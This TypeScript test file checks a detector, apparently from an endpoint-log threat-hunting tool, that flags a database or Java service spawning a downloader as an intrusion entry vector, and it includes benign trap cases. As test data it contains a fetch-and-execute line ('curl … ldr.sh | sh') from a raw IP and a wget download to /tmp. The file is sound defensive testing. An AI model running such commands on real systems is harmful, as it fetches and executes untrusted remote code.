import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event } from "../../../model/index.js";
import { runDetector } from "../../../test-helpers/index.js";
import { entryVectorDetector } from "./entry-vector.js";

let line = 0;
function proc(parent: string, commandLine: string, host = "db-prod-01"): Event {
  line++;
  return {
    "@timestamp": "2026-11-18T21:41:07.530Z", "event.dataset": "endpoint.events.process", "event.category": ["process"],
    "log.file.path": "edr.ndjson", "minerhunt.line": line, "host.name": host, "user.name": "postgres",
    "process.parent.name": parent, "process.command_line": commandLine, "process.name": commandLine.split(" ")[0]!,
  };
}

test("a database starting curl | sh is the entry vector; the URL and the service are named", () => {
  const [f, ...rest] = runDetector(entryVectorDetector, [proc("postgres", "sh -c curl -fsSL http://185.122.204.197/ldr.sh | sh")]);
  assert.equal(rest.length, 0);
  assert.ok(f!.tags?.includes("entry-vector"));
  assert.ok(f!.mitre.includes("T1190"));
  assert.ok(f!.observables.some((o) => o.type === "url" && o.value === "http://185.122.204.197/ldr.sh"));
  assert.equal(f!.confidence, 0.55);
  assert.deepEqual(f!.evidence[0]!.line, line);
});

test("a downloader alone from a service is weaker; the same command twice is one finding", () => {
  const fs = runDetector(entryVectorDetector, [proc("java", "wget http://203.0.113.9/x -O /tmp/x"), proc("java", "wget http://203.0.113.9/x -O /tmp/x")]);
  assert.equal(fs.length, 1);
  assert.equal(fs[0]!.confidence, 0.35);
});

test("traps: an admin's shell, a service running its own tools, grep for curl", () => {
  assert.deepEqual(runDetector(entryVectorDetector, [
    proc("bash", "curl -fsSL https://get.example.com/install.sh | sh"),
    proc("postgres", "/usr/lib/postgresql/14/bin/pg_dump orders"),
    proc("java", "grep curl /var/log/app.log"),
  ]), []);
});
